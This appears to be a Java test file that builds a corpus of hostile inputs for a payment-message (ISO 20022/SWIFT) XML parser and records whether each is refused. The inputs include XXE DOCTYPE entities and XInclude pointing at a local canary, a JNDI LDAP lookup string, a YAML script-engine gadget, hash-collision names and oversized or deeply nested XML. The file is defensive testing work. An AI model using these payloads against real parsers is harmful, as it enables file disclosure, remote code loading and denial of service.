        add("standalone-maybe", Expected.SETTLED, "<?xml version=\"1.0\" standalone=\"maybe\"?>" + next());
    }

    private void dimensions() {
        family = "dimension";
        for (int depth : new int[] {65, 1_000, 200_000}) {
            inElement("depth-" + depth, Expected.REFUSED, "<a>".repeat(depth) + "</a>".repeat(depth));
        }
        inElement("depth-unclosed", Expected.REFUSED, "<a>".repeat(200_000));
        inElement("depth-end-tags", Expected.REFUSED, "</a>".repeat(200_000));
        inElement(
                "depth-in-supplementary-data",
                Expected.REFUSED,
                supplementary("<a xmlns=\"urn:a\">" + "<b>".repeat(1_000) + "</b>".repeat(1_000) + "</a>"));
        for (int count : new int[] {65, 10_000, 100_000}) {
            inElement(
                    "attributes-" + count,
                    Expected.REFUSED,
                    "<a" + String.join("", numbered(count, " a%d=\"\"")) + "/>");
        }
        onRoot("attributes-on-root", Expected.REFUSED, String.join("", numbered(20_000, " a%d=\"\"")));
        inElement("attribute-colliding", Expected.REFUSED, "<a " + String.join("=\"\" ", colliding(13)) + "=\"\"/>");
        inElement("attribute-twice", Expected.REFUSED, "<a b=\"1\" b=\"2\"/>");
        refused("attribute-twice-on-amount", DECLARATION + next().replace("Ccy=\"EUR\"", "Ccy=\"EUR\" Ccy=\"USD\""));
        inElement(
                "attribute-twice-by-prefix",
                Expected.REFUSED,
                "<a xmlns:p=\"urn:a\" xmlns:q=\"urn:a\" p:b=\"1\" q:b=\"2\"/>");
        inElement("attribute-huge", Expected.REFUSED, "<a b=\"" + "x".repeat(MEGA) + "\"/>");
        refused("attribute-huge-currency", DECLARATION + next().replace("\"EUR\"", "\"" + "E".repeat(MEGA) + "\""));
        inElement("attribute-name-huge", Expected.REFUSED, "<a " + "b".repeat(MEGA) + "=\"\"/>");
        inElement("attribute-unclosed", Expected.REFUSED, "<a b=\"" + "x".repeat(MEGA));
        inElement("name-huge", Expected.REFUSED, "<" + "a".repeat(MEGA) + "/>");
        inElement("name-huge-pair", Expected.REFUSED, "<" + "a".repeat(MEGA) + "></" + "a".repeat(MEGA) + ">");
        refused("name-huge-root", DECLARATION + "<" + "a".repeat(MEGA) + "/>");
        inElement("names-colliding", Expected.REFUSED, "<" + String.join("/><", colliding(13)) + "/>");
        inElement("names-many", Expected.REFUSED, String.join("", numbered(100_000, "<n%d/>")));
        inElement(
                "prefix-huge",
                Expected.REFUSED,
                "<" + "p".repeat(MEGA) + ":a xmlns:" + "p".repeat(MEGA) + "=\"urn:a\"/>");
        inElement("prefix-undeclared", Expected.REFUSED, "<p:a/>");
        inElement("prefixes-undeclared", Expected.REFUSED, String.join("", numbered(50_000, "<p%d:a/>")));
        for (int count : new int[] {65, 50_000}) {
            inElement(
                    "declarations-" + count,
                    Expected.REFUSED,
                    "<a" + String.join("", numbered(count, " xmlns:p%d=\"urn:%1$d\"")) + "/>");
        }
        onRoot("declarations-on-root", Expected.REFUSED, String.join("", numbered(20_000, " xmlns:p%d=\"urn:p\"")));
        inElement(
                "declarations-nested",
                Expected.REFUSED,
                String.join("", numbered(60, "<a xmlns:p%d=\"urn:a\">")) + "</a>".repeat(60));
        onRoot("namespace-huge", Expected.REFUSED, " xmlns:p=\"" + "u".repeat(MEGA) + "\"");
        refused(
                "namespace-huge-own",
                DECLARATION + next().replace("pacs.008.001.08", "pacs.008.001.08" + "x".repeat(MEGA)));
        inElement("xml-prefix-bound", Expected.REFUSED, "<a xmlns:xml=\"urn:evil\"/>");
        inElement("xmlns-prefix-bound", Expected.REFUSED, "<a xmlns:xmlns=\"urn:evil\"/>");
        refused(
                "transactions-empty",
                DECLARATION
                        + next().replace(
                                        "</RmtInf></CdtTrfTxInf>",
                                        "</RmtInf></CdtTrfTxInf>" + "<CdtTrfTxInf/>".repeat(50_000)));
        refused("documents-empty", "<Document/>".repeat(50_000));
        refused("documents-open", "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08\">".repeat(10_000));
        refused("headers-open", "<AppHdr>".repeat(50_000));
    }

    private void texts() {
        family = "text";
        inText("huge", "", "x".repeat(2 * MEGA));
        refused("huge-amount", DECLARATION + next().replace("12.50", "1".repeat(MEGA)));
        refused("huge-amount-zeros", DECLARATION + next().replace("12.50", "0".repeat(MEGA) + "12.50"));
        refused("huge-fraction", DECLARATION + next().replace("12.50", "12." + "5".repeat(MEGA)));
        refused("exponent", DECLARATION + next().replace("12.50", "1E1000000000"));
        refused("huge-date", DECLARATION + next().replace("2026-11-23", "9".repeat(MEGA) + "-11-23"));
        refused(
                "huge-date-time",
                DECLARATION + next().replace("2026-11-20T09:30:00Z", "2026-11-20T09:30:00." + "9".repeat(MEGA) + "Z"));
        refused("huge-count", DECLARATION + next().replace("<NbOfTxs>1", "<NbOfTxs>" + "9".repeat(MEGA)));
        refused("huge-iban", DECLARATION + next().replace("DE89", "DE89" + "0".repeat(MEGA)));
        refused("huge-bic", DECLARATION + next().replace("BANKDEFFXXX", "A".repeat(MEGA)));
        refused("huge-code", DECLARATION + next().replace("SLEV", "S".repeat(MEGA)));
        refused("huge-uetr", DECLARATION + next().replace("-0000-4000-8000-", "-0000-4000-8000-" + "0".repeat(MEGA)));
        add("blanks", Expected.HARMLESS, DECLARATION + next().replace("<GrpHdr>", " ".repeat(MEGA) + "<GrpHdr>"));
        add("lines", Expected.HARMLESS, DECLARATION + next().replace("<GrpHdr>", "\r\n".repeat(MEGA / 2) + "<GrpHdr>"));
        add("lines-before", Expected.SETTLED, "\n".repeat(MEGA) + next());
        add(
                "comment",
                Expected.HARMLESS,
                DECLARATION + next().replace("<GrpHdr>", "<!--" + "x".repeat(MEGA) + "--><GrpHdr>"));
        add(
                "comments",
                Expected.HARMLESS,
                DECLARATION + next().replace("<GrpHdr>", "<!---->".repeat(100_000) + "<GrpHdr>"));
        add(
                "comments-in-text",
                Expected.HARMLESS,
                DECLARATION + next().replace("Invoice 7", "In" + "<!---->".repeat(100_000) + "voice 7"));
        refused("comment-unclosed", DECLARATION + next().replace("<GrpHdr>", "<!--" + "x".repeat(MEGA) + "<GrpHdr>"));
        refused("comments-unclosed", DECLARATION + next().replace("<GrpHdr>", "<!--a".repeat(200_000)));
        refused("comment-hyphens", DECLARATION + next().replace("<GrpHdr>", "<!-- a -- b --><GrpHdr>"));
        add(
                "cdata-pieces",
                Expected.HARMLESS,
                DECLARATION + next().replace("Invoice 7", "<![CDATA[]]>".repeat(100_000) + "Invoice 7"));
        inText("cdata-huge", "", "<![CDATA[" + "<".repeat(MEGA) + "]]>");
        inText("cdata-unclosed", "", "<![CDATA[" + "x".repeat(MEGA));
        refused("cdatas-unclosed", DECLARATION + next().replace("<GrpHdr>", "<![CDATA[".repeat(100_000)));
        inText("cdata-doctype", "<!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">", "<![CDATA[x]]>");
        inText("cdata-end-in-text", "", "a]]>b");
        inText("references", "", "&#65;".repeat(200_000));
        inText("escapes", "", "&amp;".repeat(200_000));
        inText("ampersands", "", "&".repeat(MEGA));
        inText("less-thans", "", "<".repeat(MEGA));
        inText("greater-thans", "", ">".repeat(MEGA));
        inText("open-tags", "", "<a ".repeat(200_000));
        inText("open-tags-with-quote", "", "<a b=\"".repeat(150_000));
        inText("end-tags", "", "</Ustrd>".repeat(100_000));
        inText("braces", "", "{1:F01".repeat(100_000));
        inText("tags-of-mt", "", "\n:20:A".repeat(100_000));
        inText("declarations", "", "<?xml ".repeat(100_000));
        inText("combining", "", "a" + "\u0301".repeat(300_000));
        inText("astral", "", "\uD83D\uDE00".repeat(200_000));
        refused(
                "repeated-remittance",
                DECLARATION
                        + next().replace("<Ustrd>Invoice 7</Ustrd>", "<Ustrd>x</Ustrd>".repeat(60_000) + "</Ustrd>"));
    }

    private void envelopes() {
        family = "envelope";
        String header = HEADER;
        String evil = "<!DOCTYPE x [<!ENTITY x SYSTEM \"" + canary.fileUrl() + "\">]>";
        String include = "<xi:include" + XI + " href=\"" + canary.fileUrl() + "\" parse=\"text\"/>";
        String[][] frames = {
            {"envelope", "<BizMsgEnvlp>", "</BizMsgEnvlp>"},
            {"request", "<RequestPayload>", "</RequestPayload>"},
            {
                "soap",
                "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>",
                "</s:Body></s:Envelope>"
            },
            {
                "pdu",
                "<Saa:DataPDU xmlns:Saa=\"urn:swift:saa:xsd:saa.2.0\"><Saa:Revision>2.0.13</Saa:Revision><Saa:Body>",
                "</Saa:Body></Saa:DataPDU>"
            }
        };
        for (String[] frame : frames) {
            refused(frame[0] + "-doctype-outside", DECLARATION + evil + frame[1] + header + next() + frame[2]);
            refused(frame[0] + "-doctype-before-header", DECLARATION + frame[1] + evil + header + next() + frame[2]);
            refused(frame[0] + "-doctype-before-document", DECLARATION + frame[1] + header + evil + next() + frame[2]);
            refused(frame[0] + "-doctype-behind", DECLARATION + frame[1] + header + next() + evil + frame[2]);
            refused(
                    frame[0] + "-entity-in-header",
                    DECLARATION + evil + frame[1] + header.replace("HOSTILE", "&x;") + next() + frame[2]);
            refused(
                    frame[0] + "-undeclared-in-header",
                    DECLARATION + frame[1] + header.replace("HOSTILE", "&x;") + next() + frame[2]);
            refused(
                    frame[0] + "-include-in-header",
                    DECLARATION + frame[1] + header.replace("HOSTILE", include) + next() + frame[2]);
            add(
                    frame[0] + "-include-beside",
                    Expected.SETTLED,
                    DECLARATION + frame[1] + include + header + next() + frame[2]);
            refused(
                    frame[0] + "-cdata-document",
                    DECLARATION + frame[1] + "<![CDATA[" + evil + next() + "]]>" + frame[2]);
            refused(
                    frame[0] + "-escaped-document",
                    DECLARATION
                            + frame[1]
                            + (evil + next()).replace("&", "&amp;").replace("<", "&lt;")
                            + frame[2]);
            refused(
                    frame[0] + "-base64-document",
                    DECLARATION + frame[1] + "<Body>"
                            + Base64.getEncoder().encodeToString((evil + next()).getBytes(StandardCharsets.UTF_8))
                            + "</Body>"
                            + frame[2]);
            refused(
                    frame[0] + "-nested",
                    DECLARATION + evil + frame[1].repeat(1_000) + header + next() + frame[2].repeat(1_000));
        }
        refused("pdu-open", DECLARATION + "<DataPDU>".repeat(100_000));
        refused("header-alone", DECLARATION + evil + header);
        refused("headers-many", DECLARATION + "<E>" + header.repeat(2_000) + "</E>");
        refused(
                "header-depth",
                DECLARATION + "<E>" + header.replace("HOSTILE", "<a>".repeat(100_000)) + next() + "</E>");
        refused(
                "base64-bomb",
                DECLARATION
                        + "<DataPDU"
                        + " xmlns=\"urn:swift:saa:xsd:saa.2.0\"><Header><Message><MessageIdentifier>fin.103</MessageIdentifier>"
                        + "</Message></Header><Body>" + "QUFB".repeat(250_000) + "</Body></DataPDU>");
        inElement("supplementary-doctype", Expected.REFUSED, supplementary(evil + "<a xmlns=\"urn:a\">&x;</a>"));
        inElement("supplementary-entity", Expected.REFUSED, supplementary("<a xmlns=\"urn:a\">&x;</a>"));
        inElement(
                "supplementary-located",
                Expected.SETTLED,
                supplementary("<a xmlns=\"urn:a\"" + XSI + " xsi:schemaLocation=\"urn:a " + canary.httpUrl() + "\"/>"));
        inElement("supplementary-document", Expected.SETTLED, supplementary(payment(999_999)));
        inElement(
                "supplementary-huge",
                Expected.SETTLED,
                supplementary("<a xmlns=\"urn:a\">" + "x".repeat(MEGA) + "</a>"));
    }

    private void disguises() {
        family = "disguise";
        String doctype = "<!DOCTYPE Document SYSTEM \"" + canary.httpUrl() + "\">";
        String mt = String.join(
                "\r\n",
                "{1:F01GIROFRPPAXXX0000000000}{2:I103BANKDEFFXXXXN}{3:{119:REMIT}}{4:",
                ":20:HOSTILE",
                ":23B:CRED",
                ":32A:261123EUR12,50",
                ":50K:/FR7630006000011234567890189",
                "ADA EXAMPLE",
                ":59:/DE89370400440532013000",
                "BEN BEISPIEL",
                ":70:INVOICE 7",
                ":71A:SHA",
                ":77T:%s",
                "-}");
        add("mt-envelope-xml", Expected.SETTLED, String.format(mt, DECLARATION + next()));
        add("mt-envelope-doctype", Expected.SETTLED, String.format(mt, doctype + next()));
        add(
                "mt-envelope-include",
                Expected.SETTLED,
                String.format(mt, "<xi:include" + XI + " href=\"" + canary.fileUrl() + "\"/>"));
        refused("mt-remittance-entity", mt.replace("INVOICE 7", "&xxe;").replace("%s", "x"));
        refused("mt-remittance-doctype", mt.replace("INVOICE 7", doctype).replace("%s", "x"));
        refused("mt-then-doctype", mt.replace("%s", "x").replace(":71A:SHA\r\n", "") + "\r\n" + doctype + next());
        refused("xml-with-mt", DECLARATION + doctype + next().replace("Invoice 7", mt.replace("%s", "x")));
        refused("rje", mt.replace("{3:{119:REMIT}}", "").replace("%s", "x") + "$" + doctype + next());
        refused("html", "<!DOCTYPE html><html><script src=\"" + canary.httpUrl() + "\"></script></html>");
        refused(
                "svg",
                DECLARATION + "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"" + canary.httpUrl()
                        + "\"/></svg>");
        refused("dtd", "<?xml version=\"1.0\"?><!ENTITY x SYSTEM \"" + canary.fileUrl() + "\">");
        refused("json", "{\"kind\":\"" + canary.fileUrl() + "\",\"a\":" + "[".repeat(100_000));
        refused("yaml", "!!javax.script.ScriptEngineManager [!!java.net.URL [\"" + canary.httpUrl() + "\"]]");
        refused("url", canary.httpUrl() + "\n" + canary.fileUrl());
        refused("lookup", "${jndi:ldap://127.0.0.1:" + canary.port() + "/a}");
        add(
                "lookup-in-text",
                Expected.SETTLED,
                DECLARATION + next().replace("Invoice 7", "${jndi:ldap://127.0.0.1:" + canary.port() + "/a}"));
        add(
                "expression-in-text",
                Expected.SETTLED,
                DECLARATION + next().replace("Invoice 7", "${body} ${file:name} #{1+1} {{sys:user.home}}"));
        refused("zip", "PK\u0003\u0004" + doctype + next());
        add("gzip", Expected.REFUSED, ("\u001F\u008B\u0008" + next()).getBytes(StandardCharsets.ISO_8859_1));
    }

    // ---- texts ----------------------------------------------------------------------------------------------------

    private static List<String> numbered(int count, String format) {
        List<String> all = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            all.add(format.replace("%1$d", String.valueOf(i)).replace("%d", String.valueOf(i)));
        }
        return all;
    }

    /** Names that all have one hash code: 2 to the power of the number given. */
    private static List<String> colliding(int power) {
        List<String> all = List.of("");
        for (int i = 0; i < power; i++) {
            List<String> longer = new ArrayList<>(all.size() * 2);
            for (String name : all) {
                longer.add(name + "Aa");
                longer.add(name + "BB");
            }
            all = longer;
        }
        return all;
    }
}
